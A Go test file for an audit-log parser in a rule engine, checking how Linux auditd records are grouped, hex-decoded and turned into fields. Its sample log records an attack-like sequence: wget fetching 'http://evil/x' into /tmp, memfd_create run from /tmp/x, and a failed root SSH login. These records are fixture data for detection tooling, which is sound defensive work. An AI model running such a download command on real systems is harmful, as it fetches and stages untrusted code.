package logs

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/rulec/rulec/engine"
)

// Two interleaved syscall events (24287 and 24288), a user-space record, an
// enriched record, and a long EXECVE argument.
const auditSample = `type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=7fffd19c5592 a1=0 a2=7fffd19c4b50 a3=a items=2 ppid=2686 pid=3538 auid=500 uid=500 gid=500 euid=33 comm="wget" exe="/usr/bin/wget" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key="susp_activity"
type=SYSCALL msg=audit(1364481363.250:24288): arch=c000003e syscall=2 success=no exit=-13 a0=4 a1=0 items=1 ppid=1 pid=99 comm=636174206D65 exe="/bin/cat" key=(null)
type=EXECVE msg=audit(1364481363.243:24287): argc=3 a0="wget" a1="http://evil/x" a2=2D4F202F746D702F782079
type=CWD msg=audit(1364481363.243:24287): cwd="/root"
type=PATH msg=audit(1364481363.243:24287): item=0 name="/usr/bin/wget" inode=1 nametype=NORMAL
type=PATH msg=audit(1364481363.243:24287): item=1 name=2F6C69622F6C642D6C696E75782E736F2E32 nametype=NORMAL
type=PROCTITLE msg=audit(1364481363.243:24287): proctitle=77676574006874747020
type=EOE msg=audit(1364481363.243:24287):
type=USER_LOGIN msg=audit(1364481364.000:24290): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=10.0.0.1 terminal=ssh res=failed'
type=EOE msg=audit(1364481363.250:24288):
node=web1 type=SYSCALL msg=audit(1364481365.001:3): arch=c000003e syscall=319 success=yes exit=3 a0=7ffe a1=0 comm="x" exe="/tmp/x" key="memfd"` + "\x1d" + `ARCH=x86_64 SYSCALL=memfd_create AUID="alice"
type=EXECVE msg=audit(1364481366.000:4): argc=2 a0="cat" a1_len=8 a1[0]=41424344 a1[1]=45464748
`

func TestAudit(t *testing.T) {
	res := readString(t, auditSample, "")
	if len(res.errs) > 0 {
		t.Fatalf("errors: %v", res.errs)
	}
	if len(res.recs) != 5 {
		t.Fatalf("%d events, want 5", len(res.recs))
	}
	byIndex := map[int]Record{}
	for _, r := range res.recs {
		byIndex[r.Index] = r
	}
	check := func(idx int, field string, want ...string) {
		t.Helper()
		r, ok := byIndex[idx]
		if !ok {
			t.Fatalf("no event %d", idx)
		}
		v, ok := r.Event.Get(field)
		var got []string
		if v.Kind == engine.KindArray {
			for _, e := range v.Arr {
				got = append(got, e.S)
			}
		} else if ok {
			got = []string{v.S}
		}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("event %d %s = %q, want %q", idx, field, got, want)
		}
	}
	// Event 0: SYSCALL+EXECVE+CWD+PATH*2+PROCTITLE.
	check(0, "type", "SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE")
	check(0, "comm", "wget")
	check(0, "exe", "/usr/bin/wget")
	check(0, "key", "susp_activity")
	check(0, "euid", "33")
	check(0, "a0", "7fffd19c5592", "wget") // SYSCALL register and EXECVE argument
	check(0, "EXECVE.a0", "wget")
	check(0, "SYSCALL.a0", "7fffd19c5592")
	check(0, "a2", "7fffd19c4b50", "-O /tmp/x y")
	check(0, "name", "/usr/bin/wget", "/lib/ld-linux.so.2")
	check(0, "PATH.name", "/usr/bin/wget", "/lib/ld-linux.so.2")
	check(0, "cwd", "/root")
	check(0, "proctitle", "wget http")
	check(0, "SYSCALL", "execve")
	check(0, "syscall", "59")
	check(0, "serial", "24287")
	// Event 1: hex comm, (null) key, completed by its late EOE.
	check(1, "comm", "cat me")
	check(1, "key", "(null)")
	check(1, "SYSCALL", "open")
	check(1, "type", "SYSCALL")
	// Event 2: user-space record with a nested msg.
	check(2, "type", "USER_LOGIN")
	check(2, "acct", "root")
	check(2, "exe", "/usr/sbin/sshd")
	check(2, "res", "failed")
	check(2, "op", "login")
	// Event 3: node prefix and enriched fields.
	check(3, "node", "web1")
	check(3, "SYSCALL", "memfd_create")
	check(3, "AUID", "alice")
	check(3, "key", "memfd")
	// Event 4: a long argument in pieces.
	check(4, "a1", "ABCDEFGH")
	check(4, "a0", "cat")

	r0 := byIndex[0]
	if r0.Line != 1 || !r0.Time.Equal(time.Date(2013, 3, 28, 14, 36, 3, 243e6, time.UTC)) {
		t.Errorf("event 0: line %d time %v", r0.Line, r0.Time)
	}
	if byIndex[3].Line != 11 {
		t.Errorf("event 3 line %d", byIndex[3].Line)
	}
	// Completion order: event 0 at its EOE (line 8), event 1 at its EOE (line 10) after 2? No:
	// event 2 (USER_LOGIN) is open until the end or the window; check all are present once.
	seen := map[int]int{}
	for _, r := range res.recs {
		seen[r.Index]++
	}
	for i := 0; i < 5; i++ {
		if seen[i] != 1 {
			t.Errorf("event %d delivered %d times", i, seen[i])
		}
	}
}

func TestAuditWindowAndPending(t *testing.T) {
	// Events without EOE complete once a record more than 2 s later arrives.
	var b strings.Builder
	fmt.Fprintf(&b, "type=USER_CMD msg=audit(1000.000:1): pid=1 cmd=6C73\n")
	fmt.Fprintf(&b, "type=USER_CMD msg=audit(1001.000:2): pid=2\n")
	fmt.Fprintf(&b, "type=USER_CMD msg=audit(1003.500:3): pid=3\n")
	r := mustNewReader(t, strings.NewReader(b.String()), FormatAudit)
	rec, err := r.Next()
	if err != nil || rec.Index != 0 || get(t, rec, "cmd") != "ls" {
		t.Fatalf("first: %v %v", rec, err)
	}
	// More than auditMaxPending open events: the oldest are completed.
	b.Reset()
	for i := 0; i < auditMaxPending+10; i++ {
		fmt.Fprintf(&b, "type=SYSCALL msg=audit(1000.000:%d): pid=%d\n", i, i)
	}
	res := readString(t, b.String(), FormatAudit)
	if len(res.recs) != auditMaxPending+10 || len(res.errs) != 0 {
		t.Fatalf("%d records, %v", len(res.recs), res.errs)
	}
	for i, rec := range res.recs {
		if rec.Index != i || get(t, rec, "pid") != fmt.Sprint(i) {
			t.Fatalf("record %d: index %d pid %s", i, rec.Index, get(t, rec, "pid"))
		}
	}
}

func TestAuditBadLines(t *testing.T) {
	in := "type=SYSCALL msg=audit(1.0:1): pid=1\ngarbage line\n\x00\x01\n" +
		"type=SYSCALL msg=audit(1.0:2): comm=\"b\xffd\"\ntype=EOE msg=audit(1.0:9):\n"
	res := readString(t, in, FormatAudit)
	if len(res.recs) != 2 {
		t.Fatalf("%d records", len(res.recs))
	}
	if len(res.errs) != 3 {
		t.Fatalf("errors %v", res.errs)
	}
	if res.errs[0].Line != 2 || !strings.Contains(res.errs[0].Error(), "not an audit record") {
		t.Errorf("%v", res.errs[0])
	}
	if res.errs[1].Line != 3 {
		t.Errorf("%v", res.errs[1])
	}
	if !errors.Is(res.errs[2], ErrInvalidUTF8) || res.errs[2].Line != 4 {
		t.Errorf("%v", res.errs[2])
	}
	if got := get(t, res.recs[1], "comm"); got != "b\uFFFDd" {
		t.Errorf("comm %q", got)
	}
}

func TestSplitKV(t *testing.T) {
	got := splitKV(`a=1 b="x y" c='q r' d= flag e="unterminated`)
	want := []kvPair{{"a", "1", false}, {"b", "x y", true}, {"c", "q r", true}, {"d", "", false}, {"e", "unterminated", true}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%v, want %v", got, want)
	}
}
